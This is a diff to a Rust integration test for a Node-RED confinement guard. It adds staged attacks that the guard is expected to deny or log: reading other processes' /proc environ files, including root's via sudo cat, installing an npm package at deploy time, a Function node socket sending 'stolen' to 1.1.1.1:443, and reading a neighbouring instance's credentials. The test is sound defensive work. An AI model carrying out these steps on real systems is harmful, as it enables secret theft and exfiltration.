@@ -2,12 +2,12 @@
 //! meets the rule that is there for it and no other, once, and does no harm where a rule forbids it.
 //!
 //! The numbers are those of the table in docs/scenarios.md, which is held against this one. Number 9 and 23, what has to
-//! stay allowed, are `keys.rs` and `releases.rs`; 13, a package that a deployed flow asks for, is npm's work like 12; 20 is
-//! `editor.rs`.
+//! stay allowed, are `keys.rs` and `releases.rs`; 20 is `editor.rs`.
 
 use std::{
     collections::BTreeSet,
     fs,
+    net::{IpAddr, Ipv4Addr},
     os::unix::fs::{PermissionsExt as _, chown},
     os::unix::net::UnixListener,
     path::{Path, PathBuf},
@@ -16,6 +16,7 @@ use std::{
 
 use anyhow::{Context as _, Result, ensure};
 use flowwarden_tests::{
+    cli,
     flows::{FileAction, Flow, js},
     guard::Guard,
     needs, node_red,
@@ -29,10 +30,12 @@ use flowwarden_tests::{
 };
 use serde_json::json;
 
-use crate::stage::{Actor, copy};
+use crate::stage::{Actor, Neighbour, copy};
 
 /// What must not come out.
 const SECRET: &str = "-----THE SECRET-----";
+/// One of the addresses in the preset that answer names over https; here it is in the world of the test.
+const DOH: IpAddr = IpAddr::V4(Ipv4Addr::new(1, 1, 1, 1));
 /// The table that people read.
 const TABLE: &str = include_str!("../../../docs/scenarios.md");
 
@@ -40,6 +43,8 @@ const TABLE: &str = include_str!("../../../docs/scenarios.md");
 enum Act {
     /// By a flow.
     Play(Flow),
+    /// By a flow that does it when it is deployed.
+    Deploy(Flow),
     /// By a request to the admin API.
     Ask(&'static str, String),
 }
@@ -73,6 +78,26 @@ impl Attack {
     }
 }
 
+/// The rows of the table that people read about a preset: those that stand below its name.
+fn rows_under(preset: &str) -> Vec<&'static str> {
+    let preset = format!("`{preset}`");
+    let below = TABLE.lines().skip_while(|line| !line.contains(&preset)).skip_while(|line| !line.starts_with('|'));
+    below.take_while(|line| line.starts_with('|')).skip(2).collect()
+}
+
+/// Processes that are not the instance's, with a secret in their environment.
+struct Bystanders {
+    users: Neighbour,
+    roots: Neighbour,
+}
+
+impl Bystanders {
+    fn new(scene: &Scene) -> Result<Self> {
+        let with_secret = |uid| Neighbour::with_secret(scene, uid, SECRET);
+        Ok(Self { users: with_secret(scene.node_red.confinement().uid)?, roots: with_secret(0)? })
+    }
+}
+
 /// A file as it is, to be put back.
 fn content(path: &Path) -> Option<Vec<u8>> {
     fs::read(path).ok()
@@ -96,6 +121,16 @@ fn make(scene: &mut Scene, act: &Act) -> Result<String> {
     scene.node_red.start()?;
     match act {
         Act::Play(flow) => Ok(format!("{:?}", scene.node_red.play(flow)?)),
+        Act::Deploy(flow) => {
+            let console = scene.node_red.console();
+            let mark = console.mark();
+            let answer = scene.node_red.http("POST", "/flows", &flow.to_json());
+            // Node-RED answers while npm is at work still.
+            wait::until("the end of an installation", wait::PATIENCE, || {
+                Ok(console.find(mark, |line| line.ends_with("Started flows") || line.contains(" failed:")))
+            })?;
+            Ok(format!("{answer:?}"))
+        }
         Act::Ask(method, path) => Ok(format!("{:?}", scene.node_red.http(method, path, ""))),
     }
 }
@@ -125,6 +160,7 @@ fn exec(command: &str) -> Act {
 /// A Node-RED with Projects, and with what is there to be stolen.
 fn stage() -> Result<Scene> {
     let mut scene = Scene::new()?;
+    scene.network.move_to_world(DOH)?;
     let settings = fs::read_to_string(scene.node_red.settings())?;
     let projects = settings.replacen("projects: {", "projects: { enabled: true, ignored: {} }, was: {", 1);
     ensure!(projects != settings, "the settings say nothing about Projects");
@@ -143,6 +179,8 @@ fn stage() -> Result<Scene> {
     home.file(".node-red/key.pem", SECRET)?;
     home.file(".ssh/id_ed25519", SECRET)?;
     home.file(".bashrc", "# nothing\n")?;
+    // Node-RED lets npm ask its registry, which is not in this network.
+    home.file(".npmrc", "offline=true\naudit=false\nfund=false\n")?;
     scene.node_red.start()?;
     Ok(scene)
 }
@@ -222,8 +260,19 @@ fn settings_attacks(node_red: &NodeRed) -> Result<Vec<(u8, &'static str, Act)>> 
     ])
 }
 
+/// Takes a package away again, and what npm has written about it.
+fn uninstall(scene: &Scene, package_json: &[u8]) -> Result<()> {
+    let user_dir = scene.node_red.home().user_dir();
+    let modules = user_dir.join("node_modules");
+    fs::remove_dir_all(modules.join(package::NAME))?;
+    for file in [user_dir.join("package-lock.json"), modules.join(".package-lock.json")] {
+        fs::remove_file(&file).or_else(|error| if file.exists() { Err(error) } else { Ok(()) })?;
+    }
+    Ok(fs::write(user_dir.join("package.json"), package_json)?)
+}
+
 #[expect(clippy::too_many_lines, reason = "a table")]
-fn attacks(scene: &Scene) -> Result<Vec<Attack>> {
+fn attacks(scene: &Scene, bystanders: &Bystanders) -> Result<Vec<Attack>> {
     let node_red = &scene.node_red;
     let (home, uid) = (node_red.home(), node_red.confinement().uid);
     let (user_dir, path) = (home.user_dir(), |name: &str| home.path().join(name));
@@ -256,6 +305,26 @@ fn attacks(scene: &Scene) -> Result<Vec<Attack>> {
         &["user-keys"],
         "deny",
         Act::Play(Flow::file_in(&path(".ssh/id_ed25519"))),
+        Harm::Prints(SECRET),
+    );
+    add(
+        8,
+        "a file-in node reads the environment of another process",
+        &["process-environments"],
+        "deny",
+        Act::Play(Flow::file_in(Path::new(&format!("/proc/{}/environ", bystanders.users.pid())))),
+        Harm::Prints(SECRET),
+    );
+    add(
+        8,
+        "the environment of a service of root's, by sudo",
+        &["default-privilege", "process-environments"],
+        "deny",
+        exec(&format!(
+            "'{}' /proc/{}/environ | tr '\\0' '\\n'",
+            as_root(scene, "cat")?.display(),
+            bystanders.roots.pid()
+        )),
         Harm::Prints(SECRET),
     );
 
@@ -308,8 +377,9 @@ fn attacks(scene: &Scene) -> Result<Vec<Attack>> {
     let tarball = path("probe.tgz");
     fs::write(&tarball, package::tarball("1.0.0", &json!({ "postinstall": "node -e 0" }))?)?;
     fs::set_permissions(&tarball, fs::Permissions::from_mode(0o644))?;
+    let installed = user_dir.join("node_modules").join(package::NAME).join("package.json");
     add(
-        13,
+        12,
         "npm installs a package past the palette",
         &["palette"],
         "deny",
@@ -318,7 +388,16 @@ fn attacks(scene: &Scene) -> Result<Vec<Attack>> {
             user_dir.display(),
             tarball.display()
         )),
-        Harm::Changes(user_dir.join("node_modules").join(package::NAME).join("package.json")),
+        Harm::Changes(installed.clone()),
+    );
+    let library = format!("{}@file:{}", package::NAME, tarball.display());
+    add(
+        13,
+        "a Function node asks for a library that is not there",
+        &["palette"],
+        "deny",
+        Act::Deploy(Flow::with_library("return msg;", "probe", &library)),
+        Harm::Changes(installed),
     );
 
     for (what, mapped) in [
@@ -364,6 +443,20 @@ fn attacks(scene: &Scene) -> Result<Vec<Attack>> {
             dns.address().ip()
         )),
         Harm::Reaches(dns),
+    );
+
+    let doh = Sink::tcp_at(&scene.network, (DOH, 443).into())?;
+    add(
+        15,
+        "a flow asks for names over https",
+        &["dns-over-https"],
+        "log",
+        function(&format!(
+            "const socket = net.connect(443, '{DOH}', () => socket.end('stolen'));
+             socket.on('error', error => node.error(error.message, msg)); socket.on('close', () => node.send(msg));
+             socket.resume(); return;"
+        )),
+        Harm::Reaches(doh),
     );
 
     let (socket, listener) = engine(uid)?;
@@ -464,13 +557,58 @@ fn guarded(scene: &mut Scene, guard: &Guard, attack: &Attack) -> Result<()> {
     Ok(())
 }
 
+/// What an instance does to its neighbour, under `multi-tenant`. The rules are named after the neighbour, here `b`.
+fn on_a_neighbour(neighbour: &NodeRed) -> Result<[Attack; 2]> {
+    let secret = neighbour.home().file(".node-red/flows_cred.json", SECRET)?;
+    let connect = format!(
+        "const socket = net.connect({}, '127.0.0.1', () => {{ socket.end(); node.warn('{SECRET}'); node.send(msg); }});
+         socket.on('error', error => node.error(error.message, msg)); return;",
+        neighbour.port()
+    );
+    let attack =
+        |what, rules, act| Attack { number: 19, what, rules, verdict: "deny", act, harm: Harm::Prints(SECRET) };
+    // The one that Node-RED may be killed for comes last: at its start it says more.
+    Ok([
+        attack("a flow connects to the editor of another instance", &["neighbour-ports-b"], function(&connect)),
+        attack("a flow reads the credentials of another instance", &["neighbour-b"], Act::Play(Flow::file_in(&secret))),
+    ])
+}
+
+#[test]
+fn an_instance_reaches_neither_the_files_nor_the_ports_of_another() -> Result<()> {
+    let mut scene = Scene::new()?;
+    let neighbour = scene.neighbour()?;
+    let attacks = on_a_neighbour(&neighbour)?;
+    let rows: Vec<_> = attacks.iter().map(Attack::row).collect();
+    ensure!(rows_under("multi-tenant") == rows, "docs/scenarios.md has another table:\n{}", rows.join("\n"));
+    for attack in &attacks {
+        let mark = scene.node_red.console().mark();
+        let outcome = make(&mut scene, &attack.act)?;
+        ensure!(is_done(&scene, &attack.harm, mark, None), "{}: no harm even without a guard: {outcome}", attack.what);
+    }
+    let name = cli::discover(&neighbour)?["name"].as_str().context("no name")?.to_owned();
+    let policy = Policy::preset("multi-tenant", &scene.node_red)?;
+    let policy = policy.but(&format!("neighbour-{name}"), "neighbour-b")?;
+    let policy = policy.but(&format!("neighbour-ports-{name}"), "neighbour-ports-b")?;
+    let guard = Guard::start(Some(&policy), &scene.cgroup, &[])?;
+    for attack in &attacks {
+        guarded(&mut scene, &guard, attack)?;
+    }
+    guard.stop().map(drop)
+}
+
 #[test]
 fn every_attack_meets_its_rule_once() -> Result<()> {
     let mut scene = stage()?;
-    let freely = attacks(&scene)?;
-    let table: Vec<_> = TABLE.lines().filter(|line| line.starts_with("| ") && line.contains('`')).collect();
+    let bystanders = Bystanders::new(&scene)?;
+    let package_json = fs::read(scene.node_red.home().user_dir().join("package.json"))?;
+    let freely = attacks(&scene, &bystanders)?;
     let rows: Vec<_> = freely.iter().map(Attack::row).collect();
-    ensure!(table == rows, "docs/scenarios.md has another table; this is what is played:\n{}", rows.join("\n"));
+    ensure!(
+        rows_under("standard") == rows,
+        "docs/scenarios.md has another table; this is what is played:\n{}",
+        rows.join("\n")
+    );
     for attack in &freely {
         let file = if let Harm::Changes(path) = &attack.harm { Some(path.clone()) } else { None };
         let before = file.as_deref().and_then(content);
@@ -482,15 +620,15 @@ fn every_attack_meets_its_rule_once() -> Result<()> {
         if let Some(path) = &file {
             put_back(&scene, path, before.as_ref())?;
         }
-        if attack.number == 13 {
-            fs::remove_dir_all(scene.node_red.home().user_dir().join("node_modules").join(package::NAME))?;
+        if file.is_some_and(|path| path.ends_with(format!("{}/package.json", package::NAME))) {
+            uninstall(&scene, &package_json)?;
         }
         let _ = fs::remove_file(scene.node_red.home().path().join("alias.js2"));
     }
     drop(freely);
 
     // The sinks of the first time have been reached already.
-    let attacks = attacks(&scene)?;
+    let attacks = attacks(&scene, &bystanders)?;
     let policy = Policy::preset("standard", &scene.node_red)?;
     let guard = Guard::start(Some(&policy), &scene.cgroup, &[])?;
     let mut wrong = Vec::new();
